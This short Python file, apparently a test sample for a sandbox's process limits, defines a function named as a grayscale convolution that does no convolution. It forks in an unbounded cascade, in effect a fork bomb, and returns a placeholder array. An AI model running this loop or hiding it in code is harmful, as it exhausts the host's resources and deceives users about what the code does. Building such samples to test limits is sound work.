"""Forks more often than it may."""

import os
import time

import numpy as np


def convolve_grayscale_valid(images, kernel):
    """Forks more often than it may."""
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(60)
    return np.ones((1, 3, 3))
